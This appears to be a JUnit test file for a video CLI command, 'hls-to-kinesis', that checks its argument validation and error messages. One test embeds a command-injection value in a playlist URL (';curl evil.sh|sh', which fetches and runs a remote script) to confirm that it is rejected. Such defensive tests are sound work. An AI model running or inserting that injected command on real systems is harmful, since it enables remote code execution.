package io.cuepoint.jobs;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** `hls-to-kinesis` refuses wrong arguments and settings with one line and exit code 2. */
class HlsCommandLineTest {
  private final CommandLineRun cli = new CommandLineRun();

  @Test
  void withoutAMedia() {
    assertThat(cli.run("hls-to-kinesis", "--playlist", "https://video.example.com/live.m3u8", "--stream", "segments")).isEqualTo(2);
    assertThat(cli.errorLine()).isEqualTo("cuepoint: hls-to-kinesis: --media is required");
  }

  @Test
  void withShellMetacharactersInThePlaylistUrl() {
    assertThat(cli.run("hls-to-kinesis", "--playlist", "https://video.example.com/live.m3u8;curl evil.sh|sh", "--media", "m", "--stream", "segments"))
        .isEqualTo(2);
    assertThat(cli.errorLine())
        .isEqualTo("cuepoint: hls-to-kinesis: --playlist: the URL contains shell metacharacter ';' at index 35: https://video.example.com/live.m3u8;curl evil.sh|sh");
  }

  @Test
  void withAPlainHttpPlaylistUnderTheDefaultPolicy() {
    assertThat(cli.run("hls-to-kinesis", "--playlist", "http://video.example.com/live.m3u8", "--media", "m", "--stream", "segments"))
        .isEqualTo(2);
    assertThat(cli.errorLine()).startsWith("cuepoint: hls-to-kinesis: --playlist: scheme 'http' is not allowed (allowed: https)");
  }

  @Test
  void withABadChannelOrSetting() {
    assertThat(cli.run("hls-to-kinesis", "--playlist", "https://v.example.com/l.m3u8", "--media", "m", "--stream", "segments", "--channel", "channel-1"))
        .isEqualTo(2);
    assertThat(cli.errorLine()).startsWith("cuepoint: hls-to-kinesis: --channel: channelArn is not an IVS channel ARN");

    CommandLineRun again = new CommandLineRun();
    assertThat(again.run("hls-to-kinesis", "--playlist", "https://v.example.com/l.m3u8", "--media", "m", "--stream", "segments", "--set", "Fetch.allowed-schemes=ftp"))
        .isEqualTo(2);
    assertThat(again.errorLine()).isEqualTo("cuepoint: Fetch.allowed-schemes: 'ftp' is not http or https");
  }

  @Test
  void usageNamesTheCommand() {
    assertThat(cli.run("help")).isZero();
    assertThat(cli.stdout()).contains("hls-to-kinesis --playlist URL --media ID --stream NAME|ARN");
  }
}
